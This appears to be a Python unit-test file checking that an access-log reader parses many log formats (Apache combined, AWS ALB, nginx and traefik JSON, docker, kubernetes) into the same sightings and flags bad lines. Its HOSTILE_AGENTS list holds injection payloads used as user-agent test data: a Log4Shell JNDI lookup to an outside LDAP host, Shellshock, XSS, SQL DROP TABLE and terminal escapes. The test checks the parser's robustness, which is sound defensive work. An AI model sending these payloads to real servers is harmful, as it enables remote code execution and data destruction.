"""Access logs of every kind lead to the same sightings, and what is no good line is told."""

import gzip
import json
import pickle

import pytest

from securegrid.ingest.inputs.blocks import MAX_LINE
from securegrid.ingest.model import BadLine, Block, Counted
from securegrid.ingest.readers.access_log import make_reader
from securegrid.ingest.readers.format import UnknownFormatError
from tests.unit.ingest.readers.access import (
    SOME,
    addresses_in,
    options,
    reader_of,
    seen_in,
)
from tests.unit.ingest.readers.blocks import NOW, at, block, read

WINDOWS = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
NOON = at("2021-05-13T12:00:00+09:00")
EVENT = ("2021-05-13", "Windows", "VPS/Cloud", "")
COMBINED = (
    '198.51.100.7 - - [13/May/2021:12:00:00 +0900] "GET / HTTP/1.1" 200 5 "-" "' + WINDOWS + '"'
)
ALB = (
    "h2 2021-05-13T03:00:00.186641Z app/x/y 198.51.100.7:44740 10.0.0.1:80 0.086 0.048 -1 200 200"
    f' 0 57 "GET https://www.example.com:443/ HTTP/1.1" "{WINDOWS}" ECDHE TLSv1.2 arn "Root=1"'
)
JSON = {
    "nginx": {
        "remote_addr": "198.51.100.7",
        "time_iso8601": "2021-05-13T12:00:00+09:00",
        "http_user_agent": WINDOWS,
    },
    "nginx, local time": {
        "remote_addr": "198.51.100.7",
        "time_local": "13/May/2021:12:00:00 +0900",
        "http_user_agent": WINDOWS,
    },
    "nginx, msec": {
        "remote_addr": "198.51.100.7",
        "msec": f"{NOON}.123",
        "user_agent": WINDOWS,
    },
    "traefik": {
        "ClientAddr": "198.51.100.7:39490",
        "ClientHost": "198.51.100.7",
        "StartUTC": "2021-05-13T03:00:00.100372Z",
        "request_User-Agent": WINDOWS,
    },
    "envoy": {
        "start_time": "2021-05-13T03:00:00.100Z",
        "user-agent": WINDOWS,
        "downstream_remote_address": "198.51.100.7:40000",
    },
    "caddy": {
        "ts": NOON + 0.5,
        "request": {"remote_ip": "198.51.100.7", "headers": {"User-Agent": [WINDOWS]}},
    },
    "docker": {"log": COMBINED + "\n", "stream": "stdout", "time": "2021-05-13T04:00:00Z"},
}
LINES = {
    "combined": COMBINED,
    "combined, CRLF": COMBINED + "\r",
    "combined with forwarded": COMBINED + ' "-"',
    "combined with more behind": COMBINED + ' rt=0.003 "x" host=y',
    "virtual host": "www.example.com:443 " + COMBINED,
    "virtual host is an address": "203.0.113.80 " + COMBINED,
    "syslog": "May 13 12:00:00 web1 nginx[2869]: " + COMBINED,
    "syslog with ISO time": "2021-05-13T12:00:00+09:00 web1 nginx: " + COMBINED,
    "a user's name with blanks": COMBINED.replace("- - [", "- John [x] Doe ["),
    "port": COMBINED.replace("198.51.100.7", "198.51.100.7:4711"),
    "proxy manager": "[13/May/2021:12:00:00 +0900] example.com 198.51.100.7 0.2 "
    f'"GET / HTTP/2.0" 207 125 440 - {WINDOWS}',
    "proxy manager, default": "[13/May/2021:12:00:00 +0900] - 200 200 - GET https example.com "
    f'"/" [Client 198.51.100.7] [Length 1] "{WINDOWS}" "-"',
    "ALB": ALB,
    **{name: json.dumps(fields) for name, fields in JSON.items()},
    "kubernetes": "2021-05-13T12:00:00.1+09:00 stdout F " + json.dumps(JSON["envoy"]),
}


@pytest.mark.parametrize("kind", LINES)
def test_every_kind_of_log_says_the_same(kind: str) -> None:
    text = LINES[kind] + "\n"
    assert seen_in(text) == {(EVENT, ("198.51.100.7",)): Counted(NOON, NOON, 1)}


@pytest.mark.parametrize("kind", LINES)
def test_readers_go_to_other_processes(kind: str) -> None:
    text = LINES[kind] + "\n"
    reader = reader_of(text)
    read(reader, text)
    copy = pickle.loads(pickle.dumps(reader))
    assert copy.read(block(text)) == reader.read(block(text))


def test_what_is_not_anonymous_is_passed_over() -> None:
    text = COMBINED + "\n" + COMBINED.replace("198.51.100.7", "203.0.113.1") + "\n\n"
    batch = read(reader_of(text, options(networks=SOME)), text)
    assert [item for _, item in batch.seen] == [("198.51.100.7",)]
    assert (batch.lines, batch.passed_over, batch.bad) == (3, 2, ())


def test_a_day_begins_where_the_zone_says() -> None:
    late = COMBINED.replace("12:00:00 +0900", "08:30:00 +0900")
    early = COMBINED.replace("12:00:00 +0900", "23:00:00 -0330")
    assert [event[0] for event, _ in seen_in(late)] == ["2021-05-12"]
    assert [event[0] for event, _ in seen_in(late, options(zone="Asia/Tokyo"))] == ["2021-05-13"]
    assert [event[0] for event, _ in seen_in(early)] == ["2021-05-14"]


def test_a_clock_that_is_set_back_loses_nothing() -> None:
    times = ["12:00:05", "12:00:07", "11:59:58", "12:00:00", "12:00:60"]
    text = "".join(COMBINED.replace("12:00:00", time) + "\n" for time in times)
    (counted,) = seen_in(text).values()
    assert counted == Counted(NOON - 2, NOON + 59, 5)


def test_ipv6_is_compressed() -> None:
    written = ["2001:0DB8:0:0:0:0:0:7", "2001:db8::7", "::ffff:198.51.100.7"]
    text = "".join(COMBINED.replace("198.51.100.7", one) + "\n" for one in written)
    assert addresses_in(text) == ["198.51.100.7", "2001:db8::7"]
    assert {counted.count for counted in seen_in(text).values()} == {1, 2}


FORWARDED = [
    COMBINED.replace("198.51.100.7", "10.0.0.1") + ' "198.51.100.7"',
    COMBINED.replace("198.51.100.7", "10.0.0.1") + ' "6.6.6.6, 198.51.100.7, 10.2.2.2"',
    "198.51.100.7, 10.0.0.1" + COMBINED.removeprefix("198.51.100.7"),
    json.dumps(JSON["nginx"] | {"remote_addr": "10.0.0.1", "http_x_forwarded_for": "198.51.100.7"}),
]


@pytest.mark.parametrize("line", FORWARDED)
def test_forwarded_addresses_count_behind_trusted_proxies_alone(line: str) -> None:
    assert addresses_in(line + "\n", options("10.0.0.0/8")) == ["198.51.100.7"]
    assert addresses_in(line + "\n", options("10.9.0.0/16")) == ["10.0.0.1"]
    assert addresses_in(line + "\n") == ["10.0.0.1"]


BAD = {
    "nothing known": ("no log line at all", BadLine.NOT_THE_FORMAT),
    "no such day": (COMBINED.replace("13/May", "31/Feb"), BadLine.NO_TIME),
    "no such month": (COMBINED.replace("13/May", "13/Mai"), BadLine.NO_TIME),
    "no such hour": (COMBINED.replace("12:00:00", "25:00:00"), BadLine.NO_TIME),
    "long ago": (COMBINED.replace("2021", "1970"), BadLine.IMPLAUSIBLE_TIME),
    "to come": (COMBINED.replace("2021", "2031"), BadLine.IMPLAUSIBLE_TIME),
    "no address": (COMBINED.replace("198.51.100.7", "client.example"), BadLine.NO_ADDRESS),
    "half an address": (COMBINED.replace("198.51.100.7", "198.51.100"), BadLine.NO_ADDRESS),
    "leading zero": (COMBINED.replace("198.51.100.7", "198.51.100.07"), BadLine.NO_ADDRESS),
    "cut off": (COMBINED[:60], BadLine.NOT_THE_FORMAT),
    "too long": (COMBINED + "x" * MAX_LINE, BadLine.TOO_LONG),
}


@pytest.mark.parametrize("kind", BAD)
def test_a_bad_line_among_good_ones_is_kept_with_its_reason(kind: str) -> None:
    line, reason = BAD[kind]
    text = f"{COMBINED}\n{COMBINED}\n{line}\n{COMBINED}\n"
    batch = reader_of(COMBINED).read(block(text, first_line=11))
    assert [(bad.number, bad.reason, bad.head) for bad in batch.bad] == [(13, reason, line[:200])]
    assert sum(counted.count for counted in batch.seen.values()) == 3
    assert (batch.lines, batch.passed_over) == (4, 0)


HOSTILE_AGENTS = [
    "${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/d2dldA==} Windows",
    "${${lower:j}${upper:n}${lower:d}i:dns://x.example/a} Windows",
    "\x1b[2J\x1b]0;owned\x07 Windows",
    "() { :; }; /bin/bash -c 'Windows'",
    'a \\" b \\\\ \\x22 Windows',
    "<script>alert(1)</script> Windows",
    "'; DROP TABLE items; -- Windows",
    "Windows " + "A" * 900_000,
]


@pytest.mark.parametrize("agent", HOSTILE_AGENTS, ids=lambda agent: agent[:12].encode().hex())
def test_what_attackers_write_into_agents_is_read_past(agent: str) -> None:
    text = COMBINED.replace(WINDOWS, agent) + "\n"
    assert list(seen_in(text)) == [(EVENT, ("198.51.100.7",))]


@pytest.mark.parametrize("encoding", ["utf-8", "cp932", "euc_jp"])
@pytest.mark.parametrize("word", ["検索ソ", "表示能力", "どこどこ"])
def test_mixed_encodings_are_read(encoding: str, word: str) -> None:
    # In Shift_JIS ソ, 表 and 能 end in a backslash, which would hide the quote behind it.
    line = COMBINED.replace('"-"', f'"http://x.example/{word}"').encode(encoding)
    text = COMBINED.encode() + b"\n" + line + b"\n"
    (counted,) = seen_in(text).values()
    assert counted.count == 2


def test_common_logs_have_no_system() -> None:
    common = COMBINED.rpartition(' "-"')[0]
    assert [event[1] for event, _ in seen_in(common + "\n")] == ["OS-Unknown"]


OTHERS = [
    "2021/09/30 09:23:53 [error] 1#1: *17 user not found, client: 127.0.0.1, server: _",
    'date=2024-10-14 time=13:46:40 type="event" remip=192.168.0.1',
    "time,ip_address,user_agent",
    "\x00\x01\x02",
    "{}",
]


@pytest.mark.parametrize("text", OTHERS)
def test_a_file_of_another_kind_is_refused(text: str) -> None:
    with pytest.raises(UnknownFormatError, match="Apache"):
        reader_of(text + "\n")


def test_what_is_decided_by_the_head_is_not_undone_by_a_cut_line() -> None:
    head = (COMBINED + "\n").encode() * 3
    assert type(reader_of(head[:-30])) is type(reader_of(head))


def test_a_log_that_begins_with_some_noise_is_read() -> None:
    text = "# rotated\n" + COMBINED + "\n"
    batch = read(reader_of(text), text)
    assert [bad.number for bad in batch.bad] == [1]
    assert len(batch.seen) == 1


def test_an_unknown_byte_never_costs_more_than_its_line() -> None:
    noise = gzip.compress(b"x" * 10_000).replace(b"\n", b"")
    text = COMBINED.encode() + b"\n" + noise + b"\n" + COMBINED.encode() + b"\n"
    batch = make_reader(text, options()).read(Block(text, 1))
    assert [bad.number for bad in batch.bad] == [2]
    assert batch.bad[0].head.isprintable()
    assert [counted.count for counted in batch.seen.values()] == [2]


def test_a_clock_ahead_by_hours_is_believed_by_days_not() -> None:
    soon = options(now=NOON - 20 * 3600)
    assert seen_in(COMBINED + "\n", soon)
    batch = reader_of(COMBINED, options(now=NOW)).read(block(COMBINED.replace("2021", "2027")))
    assert [bad.reason for bad in batch.bad] == [BadLine.IMPLAUSIBLE_TIME]
